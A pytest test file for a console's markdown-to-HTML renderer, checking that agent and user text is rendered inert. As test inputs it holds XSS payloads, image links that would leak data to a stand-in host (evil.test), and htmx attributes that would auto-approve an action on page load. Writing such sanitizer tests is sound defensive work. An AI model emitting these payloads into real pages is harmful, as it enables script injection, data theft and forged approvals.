"""Text of people, agents and files becomes HTML that can do nothing but be read."""

from __future__ import annotations

import pytest

from console.web.markdown import clean_text, plain, render
from tests.web.parsing import Elements

HARMLESS_TAGS = {"p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "a", "table"}
HARMLESS_TAGS |= {"thead", "tbody", "tr", "th", "td", "span", "div", *(f"h{level}" for level in range(1, 7))}
HARMLESS_ATTRIBUTES = {"href", "title", "rel", "class", "start", "aria-label", "role", "tabindex"}


def parsed(text: str, citations=None) -> Elements:
    return Elements(render(text, citations))


@pytest.mark.case("R1")
@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("![x](https://evil.test/p.png?leak=S1)", "https://evil.test/p.png?leak=S1"),
        ("![x](//evil.test/p)", "//evil.test/p"),
        ("![x](/approvals/1)", "/approvals/1"),
        ('![x](https://evil.test/p "title")', "https://evil.test/p"),
        ("![x](data:image/svg+xml;base64,PHN2Zy8+)", "data:image/svg+xml;base64,PHN2Zy8+"),
        ("![x][ref]\n\n[ref]: https://evil.test/p", "https://evil.test/p"),
        ('<img src="https://evil.test/p" srcset="https://evil.test/2x 2x">', "https://evil.test/2x"),
        ("[![x](https://evil.test/p)](https://example.org)", "https://evil.test/p"),
    ],
)
def test_a_picture_is_never_loaded_and_its_address_can_be_read(text, address):
    found = parsed(text)
    assert "img" not in found.tags
    assert not found.attribute_names & {"src", "srcset", "style", "background", "poster"}
    assert address in found.text


@pytest.mark.case("R1")
def test_a_picture_is_replaced_by_a_sentence_that_names_its_address():
    assert render("![a chart](https://evil.test/p.png)") == (
        '<p><span class="noimg">Picture not loaded: a chart <code>https://evil.test/p.png</code></span></p>\n'
    )


@pytest.mark.case("R2")
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert('XSS')</script>",
        '<img src=x onerror="alert(1)">',
        "<svg/onload=alert(1)>",
        "[c](javascript:alert(1))",
        "[c](JaVaScRiPt:alert(1))",
        "[c](java\nscript:alert(1))",
        "[c](&#106;avascript:alert(1))",
        "[c](vbscript:x)",
        "[c](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "<a href='javascript:alert(1)'>c</a>",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "```js onload=alert(1)\nx\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "| <b onclick=alert(1)> |\n|---|\n| <iframe src=x> |",
        "<style>*{display:none}</style>",
        "<form action=//evil.test><button>Approve</button></form>",
        '[x](https://example.org "onmouseover=alert(1)")',
    ],
)
def test_a_script_in_the_text_is_inert(text):
    found = parsed(text)
    assert found.tags <= HARMLESS_TAGS
    assert found.attribute_names <= HARMLESS_ATTRIBUTES
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in found.hrefs)


@pytest.mark.case("R4")
@pytest.mark.parametrize(
    "text",
    [
        '<div hx-post="/approvals/1/approve" hx-trigger="load">x</div>',
        '<div data-hx-get="/x" data-hx-trigger="load">x</div>',
        '<p hx-on:click="alert(1)">x</p>',
        '<hx-partial hx-target="#main">x</hx-partial>',
        '<button commandfor="approve" command="show-modal">x</button>',
        '<span data-kind="approval" data-id="1" data-status="approved">Approved</span>',
    ],
)
def test_attributes_that_htmx_or_the_page_would_obey_do_not_survive(text):
    found = parsed(text)
    assert found.tags <= {"p"}
    assert found.attribute_names == set()


def test_a_link_within_the_console_is_written_out_and_not_followed():
    found = parsed("[open](/approvals/1/) and [there](//evil.test/) and [up](../x) and [mark](#main)")
    assert found.hrefs == []
    assert "open (/approvals/1/)" in found.text
    assert "there (//evil.test/)" in found.text


def test_links_to_other_hosts_tell_them_nothing_about_us():
    (link,) = parsed("[x](https://example.org/a?b=1)").all("a")
    assert link["href"] == "https://example.org/a?b=1"
    assert set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"}


def test_an_address_written_out_is_a_link_and_a_file_name_is_not():
    found = parsed("See https://example.org/x, report.md and example.org.")
    assert found.hrefs == ["https://example.org/x"]


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("HTTPS://EXAMPLE.ORG/x", "HTTPS://EXAMPLE.ORG/x"),
        ("http://example.org", "http://example.org"),
        ("mailto:ask@example.org", "mailto:ask@example.org"),
        ("https&colon;//example.org", None),
        ("ask@example.org: no address", None),
    ],
)
def test_of_addresses_written_out_only_those_with_a_scheme_are_links(text, address):
    assert parsed(f"See {text}").hrefs == ([address] if address else [])


def test_tables_strikethrough_and_lists_are_rendered_without_style_attributes():
    found = parsed("| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |\n\n3. x\n4. y")
    assert {"table", "s", "ol", "li"} <= found.tags
    assert "style" not in found.attribute_names
    assert [cell["class"] for cell in found.all("td")] == ["c", "r"]
    assert found.all("ol") == [{"start": "3"}]


def test_a_wide_table_can_be_scrolled_by_keyboard_and_has_a_name():
    (region,) = parsed("| a |\n|---|\n| 1 |").all("div")
    assert region == {"class": "tscroll", "role": "region", "tabindex": "0", "aria-label": "Table"}


def test_code_is_coloured_by_classes():
    html = render("```python\nx = 1\n```")
    assert '<span class="tok-mi">1</span>' in html
    assert Elements(html).text.strip() == "x = 1"


def test_code_of_a_language_nobody_knows_stays_plain():
    assert "tok-" not in render("```nosuchlanguage\nx = 1\n```")


# -- citations ------------------------------------------------------------------------------------------------------
CITATIONS = {1: ("/artifacts/a/versions/1/?from=5#mark", "Contract <terms>"), 12: ("#s12", "Prices")}


def test_a_marker_with_a_source_links_to_it_and_says_which():
    first, second = parsed("Best fit [1], cheaper [12].", CITATIONS).all("a")
    assert first["href"] == "/artifacts/a/versions/1/?from=5#mark"
    assert first["aria-label"] == "Source 1, Contract <terms>"
    assert second["href"] == "#s12"
    assert first["class"] == second["class"] == "cite"


@pytest.mark.parametrize("text", ["see [3]", "[0]", "[01]", r"\[1]", "`[1]`", "```\n[1]\n```"])
def test_a_marker_without_a_source_or_within_code_stays_as_written(text):
    assert parsed(text, CITATIONS).hrefs == []


def test_without_citations_a_marker_is_just_text():
    assert render("see [1]") == "<p>see [1]</p>\n"


def test_a_link_whose_text_is_a_number_stays_a_link():
    assert parsed("[1](https://example.org)", CITATIONS).hrefs == ["https://example.org"]


def test_a_reference_definition_cannot_bend_a_citation_elsewhere():
    found = parsed("see [1]\n\n[1]: https://evil.test/", CITATIONS)
    assert found.hrefs[0] == "/artifacts/a/versions/1/?from=5#mark"
    assert all(link.get("class") == "cite" or link["href"] == "https://evil.test/" for link in found.all("a"))


# -- characters -----------------------------------------------------------------------------------------------------
@pytest.mark.case("R8")
def test_an_emoji_in_two_surrogate_halves_is_whole():
    assert clean_text("a\ud83d\ude00b") == "a😀b"
    assert render("\ud83d\ude00") == "<p>😀</p>\n"


def test_half_an_emoji_is_shown_as_unreadable_and_breaks_nothing():
    assert render("a\ud83d b") == "<p>a\ufffd b</p>\n"


@pytest.mark.case("R9")
def test_a_nul_is_marked_and_the_literal_escape_stays_as_written():
    assert render("a\x00b") == "<p>a␀b</p>\n"
    assert render(r"a\u0000b") == "<p>a\\u0000b</p>\n"


def test_the_plain_words_of_a_block_have_no_markup():
    assert plain("**Best** fit, see\n`x` & <b>") == "Best fit, see x & <b>"
